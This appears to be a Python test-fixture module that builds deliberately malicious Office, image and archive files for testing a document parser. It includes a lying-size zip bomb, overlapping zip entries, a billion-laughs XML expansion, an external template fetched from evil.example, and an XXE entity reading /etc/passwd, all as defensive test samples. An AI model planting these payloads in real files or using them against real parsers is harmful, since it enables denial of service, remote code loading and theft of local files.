"""Files as an attacker, or a careless office, would send them; each made by hand from an honest one."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

from docx import Document
from xlsxwriter import Workbook


def docx() -> bytes:
    """What python-docx saves."""
    stream = io.BytesIO()
    document = Document()
    document.add_paragraph("请示")
    document.save(stream)
    return stream.getvalue()


def xlsx() -> bytes:
    """What XlsxWriter saves, with a link, which is usual."""
    stream = io.BytesIO()
    with Workbook(stream, {"in_memory": True}) as book:
        sheet = book.add_worksheet()
        sheet.write_row(0, 0, ["金额", 12.5])
        sheet.write_url(1, 0, "https://www.gov.cn/")
    return stream.getvalue()


def changed(data: bytes, added: Mapping[str, bytes]) -> bytes:
    """The archive with entries added or put in place of others."""
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as new:
        for entry in old.infolist():
            if entry.filename not in added:
                new.writestr(entry.filename, old.read(entry))
        for name, content in added.items():
            new.writestr(name, content)
    return stream.getvalue()


def patched(data: bytes, change: Callable[[bytearray, int], None]) -> bytes:
    """The archive with each record of its directory changed in place."""
    body = bytearray(data)
    place = body.find(b"PK\x01\x02")
    while place >= 0:
        change(body, place)
        place = body.find(b"PK\x01\x02", place + 4)
    return bytes(body)


def encrypted(data: bytes) -> bytes:
    """Every entry marked as encrypted."""
    return patched(data, lambda body, at: struct.pack_into("<H", body, at + 8, 0x1))


def lying(data: bytes, real: int) -> bytes:
    """A large entry that announces one byte."""
    bomb = changed(data, {"word/media/image1.png": b"\0" * real})

    def lie(body: bytearray, at: int) -> None:
        if struct.unpack_from("<I", body, at + 24)[0] == real:
            struct.pack_into("<I", body, at + 24, 1)

    return patched(bomb, lie)


def overlapping(data: bytes) -> bytes:
    """Every entry of the directory points to the same bytes."""
    return patched(data, lambda body, at: struct.pack_into("<I", body, at + 42, 0))


ENTITIES = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
LAUGHS = f'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a0 "ha">{ENTITIES}]><l>&a9;</l>'
TEMPLATE = b'<R><Relationship Type="x/attachedTemplate" TargetMode="External" Target="http://evil.example/a.dotm"/></R>'
MACROS = b'<T><O ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></T>'
OUTSIDE = b'<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>'


def png(width: int = 10, height: int = 10) -> bytes:
    """A picture of one colour; its header says its size."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(b"\0" * 12)) + chunk(b"IEND", b"")


def jpeg(width: int = 10, height: int = 10) -> bytes:
    """The segments up to the frame that holds the size, and an end."""
    app = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\0" + b"\0" * 9
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    return b"\xff\xd8" + app + frame + b"\xff\xda\x00\x02\xff\xd9"


PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
CSV = "人员编码,金额\n44990000000001,-12.50\n".encode("gb18030")
